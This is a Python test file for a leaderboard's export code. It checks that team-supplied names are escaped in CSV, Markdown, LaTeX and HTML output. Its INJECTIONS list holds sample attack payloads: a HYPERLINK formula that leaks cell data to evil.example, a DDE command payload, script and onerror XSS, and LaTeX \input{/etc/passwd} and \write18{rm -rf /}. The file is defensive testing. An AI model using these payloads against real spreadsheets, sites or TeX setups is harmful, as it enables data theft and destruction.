"""Exports under an injection set: team-chosen names and metadata in every text format.

* CSV: read back with the csv module; no cell starts (after spaces) with a formula
  character (OWASP "CSV injection"), and every payload is still there as text.
* Markdown: rendered by markdown-it-py (CommonMark with raw HTML enabled, as GitHub and
  most renderers allow it): no tag but the table's own, no link.
* LaTeX: compiled by ``pdflatex`` (Debian's texlive-latex-base, installed by .ci for CI) in
  a minimal document; the log must show no error and the table must have one line per row.
* HTML: parsed by html.parser: no element but the table's own.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from html.parser import HTMLParser

import numpy as np
import pytest
from conftest import skip_or_fail

from averitec_tools.leaderboard.competition import parse_competition
from averitec_tools.leaderboard.export import export
from averitec_tools.leaderboard.ranking import Entry, assign_tiers

INJECTIONS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/t.png)",
    "a | b | c",
    "**bold** _it_ `code`",
    "line\nbreak\n\nparagraph",
    "\\input{/etc/passwd}",
    "\\write18{rm -rf /}",
    "$x^2$ & 100% #1 ~ _ { } \\\\",
    "^^5cinput{x}",
    "ctrl\x00\x07\x1bchars\u202ebidi",
    "€ ü 日本",
]


M = "ev2r_qa_recall"  # a per-claim metric the (judged) profile declares


def _entries() -> list[Entry]:
    out = []
    for i, text in enumerate(INJECTIONS):
        values = np.full(8, 0.9 - 0.02 * i)
        out.append(Entry(i + 1, f"team {text}", f"sys {text}", {M: float(values.mean())}, {M: (0.1, 0.9)},
                         {"model": text}, "sig", "v", f"2026-01-01 00:00:{i:02d}", values,
                         declaration={"training_data": text, "dev_claims_used": "yes"}))
    return assign_tiers(out, primary=M, alpha=0.05, test="bootstrap", n_resamples=20)


def _render(fmt: str) -> str:
    comp = parse_competition({"name": "c", "title": "C", "disclosure": ["model"], "phases": [
        {"name": "dev", "gold": "g.json", "profile": "fever8", "primary_metric": M, "columns": [M]}]}, where="c.yaml")
    return export(_entries(), competition=comp, phase=comp.phase("dev"), fmt=fmt)


def test_csv_cells_cannot_start_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(_render("csv"))))
    assert len(rows) == 1 + len(INJECTIONS)
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    first_cells = [row[2] for row in rows[1:]]  # "team <payload>" starts with text; the disclosure column starts with the payload
    assert first_cells[0].startswith("team =HYPERLINK")
    header = rows[0]
    for column in ("model", "Training data (declared)"):  # the disclosure and the declaration start with the payload
        k = header.index(column)
        assert [row[k] for row in rows[1:5]] == ["'" + p for p in INJECTIONS[:4]]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += attrs


def _tags_of(html_text: str) -> _Tags:
    parser = _Tags()
    parser.feed(html_text)
    return parser


def test_markdown_renders_as_text() -> None:
    from markdown_it import MarkdownIt

    text = _render("md")
    lines = text.splitlines()
    assert len(lines) == 2 + len(INJECTIONS) and all(line.startswith("| ") and line.endswith(" |") for line in lines[2:])
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    found = _tags_of(rendered)
    assert found.tags <= {"table", "thead", "tbody", "tr", "th", "td"}, found.tags
    assert found.attrs == [] or all(name == "style" and value and value.startswith("text-align") for name, value in found.attrs)
    assert rendered.count("<tr>") == 1 + len(INJECTIONS)  # no pipe broke a row apart
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered


def test_html_export_is_text() -> None:
    found = _tags_of(_render("html"))
    assert found.tags <= {"table", "thead", "tbody", "tr", "th", "td"} and found.attrs == []


def test_latex_table_has_no_blank_line_or_control_character() -> None:
    text = _render("latex")
    body = text.splitlines()
    assert "" not in body[:-1]
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)
    rows = [line for line in body if line.endswith(r"\\")]
    assert len(rows) == 1 + len(INJECTIONS)
    for line in rows:  # every unescaped & is a column separator: the same count on every row
        assert len(re.findall(r"(?<!\\)&", line)) == len(re.findall(r"(?<!\\)&", rows[0]))
    assert r"\input" not in text.replace(r"\textbackslash{}input", "") and r"\write18" not in text.replace(r"\textbackslash{}write18", "")


def test_latex_export_compiles_with_pdflatex(tmp_path) -> None:
    pdflatex = shutil.which("pdflatex")
    if pdflatex is None:
        skip_or_fail("pdflatex not found (apt-get install --no-install-recommends texlive-latex-base)")
    doc = tmp_path / "board.tex"
    # booktabs' rules as plain \hline: texlive-latex-base has no booktabs, and the rules are not what is tested
    doc.write_text("\\documentclass{article}\n\\usepackage[T1]{fontenc}\n\\usepackage[utf8]{inputenc}\n"
                   "\\providecommand{\\toprule}{\\hline}\\providecommand{\\midrule}{\\hline}\\providecommand{\\bottomrule}{\\hline}\n"
                   "\\begin{document}\n\\tiny\n" + _render("latex") + "\\end{document}\n", encoding="utf-8")
    proc = subprocess.run([pdflatex, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", doc.name],
                          cwd=tmp_path, capture_output=True, text=True, timeout=120)
    log = (tmp_path / "board.log").read_text(errors="replace")
    assert proc.returncode == 0, log[-2000:]
    assert "! " not in log and (tmp_path / "board.pdf").stat().st_size > 0


#: Names any team may choose (issue 30 item 11): each broke the LaTeX export under pdflatex.
UNICODE_NAMES = ["😀 smile", "日本チーム", "Команда", "Ελλάδα", "Zoë Ångström", "Łódź ß æ ø œ Œ ı", "€5 £3 § ¶ ©",
                 "🏳️‍🌈 flag", "e\u0301\u0302 stacked", "ǅ ǈ", "עברית", "العربية", "हिन्दी", "\U0001d400 bold"]


def _unicode_entries() -> list[Entry]:
    out = [Entry(i + 1, name, f"sys {name}", {M: 0.5}, {M: (0.1, 0.9)}, {"model": name}, "sig", "v",
                 f"2026-01-01 00:00:{i:02d}", np.full(8, 0.5)) for i, name in enumerate(UNICODE_NAMES)]
    return assign_tiers(out, primary=M, alpha=0.05, test="bootstrap", n_resamples=20)


def _compile(engine: str, tmp_path, body: str) -> str:
    doc = tmp_path / f"{engine}.tex"
    # a plain document: no inputenc/fontenc set-up, no \DeclareUnicodeCharacter for the names
    doc.write_text("\\documentclass{article}\n"
                   "\\providecommand{\\toprule}{\\hline}\\providecommand{\\midrule}{\\hline}"
                   "\\providecommand{\\bottomrule}{\\hline}\n"
                   "\\begin{document}\n\\tiny\n" + body + "\\end{document}\n", encoding="utf-8")
    proc = subprocess.run([engine, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", doc.name],
                          cwd=tmp_path, capture_output=True, text=True, timeout=180)
    log = (tmp_path / f"{engine}.log").read_text(errors="replace")
    assert proc.returncode == 0, log[-2000:]
    assert "\n! " not in log and (tmp_path / f"{engine}.pdf").stat().st_size > 0
    return log


def test_latex_export_with_any_script_compiles_with_pdflatex(tmp_path) -> None:
    """Emoji, CJK, Cyrillic, Greek, RTL scripts, combining marks: the export is ASCII LaTeX
    (accents as accent commands; characters pdflatex has no glyph for as their code point)."""
    pdflatex = shutil.which("pdflatex")
    if pdflatex is None:
        skip_or_fail("pdflatex not found (apt-get install --no-install-recommends texlive-latex-base)")
    text = _export_unicode()
    assert text.isascii()
    _compile("pdflatex", tmp_path, text)
    assert r'Zo\"{e} \AA{}ngstr\"{o}m' in text and r"\lbuni{1F600}" in text


def test_latex_export_shows_the_characters_under_lualatex(tmp_path) -> None:
    """The same fragment under a Unicode engine: the code-point macro prints the character."""
    if shutil.which("lualatex") is None:
        pytest.skip("lualatex not installed (only pdflatex is required)")
    log = _compile("lualatex", tmp_path, _export_unicode())
    assert "Missing character: There is no 日" in log  # typeset as the character (Latin Modern has no glyph)


def _export_unicode() -> str:
    comp = parse_competition({"name": "c", "title": "C", "disclosure": ["model"], "phases": [
        {"name": "dev", "gold": "g.json", "profile": "fever8", "primary_metric": M, "columns": [M]}]}, where="c.yaml")
    return export(_unicode_entries(), competition=comp, phase=comp.phase("dev"), fmt="latex")


@pytest.mark.parametrize("fmt", ["md", "csv", "latex", "html", "json"])
def test_every_payload_survives_as_text(fmt: str) -> None:
    text = _render(fmt)
    for token in ("HYPERLINK", "SUM", "script", "javascript", "calc", "passwd", "日本"):
        if fmt == "latex" and not token.isascii():
            token = "".join(rf"\lbuni{{{ord(c):X}}}" for c in token)  # ASCII LaTeX: by code point
        assert token in text, (fmt, token)
